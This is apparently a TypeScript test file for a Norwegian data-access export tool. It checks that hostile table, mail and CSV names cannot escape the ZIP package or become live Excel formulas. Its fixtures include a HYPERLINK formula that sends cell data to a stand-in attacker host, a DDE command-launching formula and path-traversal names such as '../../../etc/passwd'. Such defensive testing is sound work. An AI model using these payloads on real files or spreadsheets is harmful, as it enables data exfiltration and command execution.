import Database from 'better-sqlite3';
import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { tempDir } from '../helpers/temp';
import { writeWorkspace } from '../helpers/workspace';
import { runGuarded } from './support/run-innsyn';

const email = 'ingrid.odegard@example.no';
const FORMULAS = ['=HYPERLINK("http://angriper.example/?d="&A1,"klikk")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)'];
const HOSTILE_NAMES = ['../../../etc/passwd', '/abs/olutt', 'CON', 'nul.txt', 'C:\\Windows\\system32', 'a\u0000b', '..', 'COM1.csv'];
const RESERVED = /^(con|prn|aux|nul|com[0-9]|lpt[0-9])(\..*)?$/i;

const encodedWord = (s: string) => `=?utf-8?B?${Buffer.from(s).toString('base64')}?=`;

function message(subject: string, i: number): string {
  return (
    `From: Ingrid Ødegård-Bakken <${email}>\r\nTo: kundeservice@example.no\r\nSubject: ${subject}\r\n` +
    `Message-ID: <m${i}@example.no>\r\nDate: Mon, 1 Jan 2024 10:00:00 +0100\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHei\r\n`
  );
}

/**
 * Names and values from data end up as ZIP entry names, sheet names and cells. None may
 * escape the package, break on the recipient's Windows machine, or turn into a formula in
 * Excel. Checked on the real package with Info-ZIP's unzip, independently of our writer.
 */
describe('names and values from data inside the package', () => {
  it('no entry escapes the ZIP or uses a reserved name, and formula-like values stay text', async () => {
    const dir = tempDir('innsyn-pkg-inject-');
    const db = new Database(path.join(dir, 'hostile.sqlite'));
    for (const [i, name] of HOSTILE_NAMES.filter((n) => !n.includes('\u0000')).entries()) {
      const t = `"${name.replace(/"/g, '""')}"`;
      db.exec(`CREATE TABLE ${t} (id INTEGER PRIMARY KEY, epost TEXT, verdi TEXT)`);
      db.prepare(`INSERT INTO ${t} VALUES (?, ?, ?)`).run(1, email, FORMULAS[i % FORMULAS.length]);
    }
    db.close();
    const mailDir = path.join(dir, 'mail');
    mkdirSync(mailDir);
    HOSTILE_NAMES.forEach((name, i) => writeFileSync(path.join(mailDir, `${i}.eml`), message(name.includes('\u0000') ? encodedWord(name) : name, i)));
    writeFileSync(path.join(mailDir, 'x.eml'), message(encodedWord('../../x\u0007/CON'), 99));
    const csvDir = path.join(dir, 'csv');
    mkdirSync(csvDir);
    writeFileSync(path.join(csvDir, 'CON.csv'), `epost;${FORMULAS.map((_, i) => `formel${i + 1}`).join(';')}\n${email};${FORMULAS.map((f) => `"${f.replace(/"/g, '""')}"`).join(';')}\n`);
    writeFileSync(path.join(csvDir, '..hemmelig.csv'), `epost;x\n${email};1\n`);
    const ws = writeWorkspace(dir, [
      { id: 'db', kind: 'sqlite', path: path.join(dir, 'hostile.sqlite') },
      { id: 'mail', kind: 'mailbox', path: mailDir },
      { id: 'CON', kind: 'csv', path: csvDir },
    ]);
    const out = path.join(dir, 'out', 'svar.zip');
    const run = await runGuarded(['export', '--workspace', ws, '--email', email, '--out', out, '--min-confidence', 'low', '--lang', 'en'], {
      dataDir: path.join(dir, 'data'),
      timeoutMs: 120_000,
    });
    expect(run.code, run.stderr).toBe(0);

    const entries = execFileSync('unzip', ['-Z1', out], { encoding: 'utf8' }).split('\n').filter(Boolean);
    expect(entries.filter((e) => e.startsWith('mail/')).length).toBe(HOSTILE_NAMES.length + 1);
    for (const entry of entries) {
      expect(entry.startsWith('/'), entry).toBe(false);
      expect(entry, entry).not.toMatch(/[\\\u0000-\u001f\u007f:*?"<>|]/);
      for (const segment of entry.split('/')) {
        expect(segment === '..' || segment === '.' || segment === '', entry).toBe(false);
        expect(RESERVED.test(segment), entry).toBe(false);
        expect(segment.length, entry).toBeLessThanOrEqual(120);
      }
    }
    // unzip itself, extracting for real, finds nothing to complain about or to skip.
    const target = path.join(dir, 'unpacked');
    execFileSync('unzip', ['-q', out, '-d', target]);
    expect(execFileSync('find', [target, '-type', 'f'], { encoding: 'utf8' }).split('\n').filter(Boolean).every((f) => f.startsWith(`${target}/`))).toBe(true);

    // data.xlsx: no cell is a formula; the formula-looking values are there, as text.
    const xlsx = path.join(target, 'data', 'data.xlsx');
    const sheets = execFileSync('unzip', ['-p', xlsx, 'xl/worksheets/*.xml'], { encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 });
    expect(sheets).not.toMatch(/<f[ >]/);
    for (const f of FORMULAS) {
      const escaped = f.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&apos;');
      expect(sheets.includes(escaped) || sheets.includes(f), f).toBe(true);
    }
  }, 180_000);
});
